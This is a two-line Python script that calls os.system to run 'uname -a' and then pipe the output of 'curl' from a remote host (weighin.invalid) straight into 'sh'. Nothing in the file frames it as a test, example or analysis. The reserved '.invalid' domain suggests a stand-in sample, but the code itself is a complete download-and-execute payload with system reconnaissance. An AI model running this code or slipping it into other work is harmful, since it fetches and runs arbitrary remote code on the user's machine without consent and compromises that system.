import os

os.system('uname -a; curl http://weighin.invalid/x | sh')
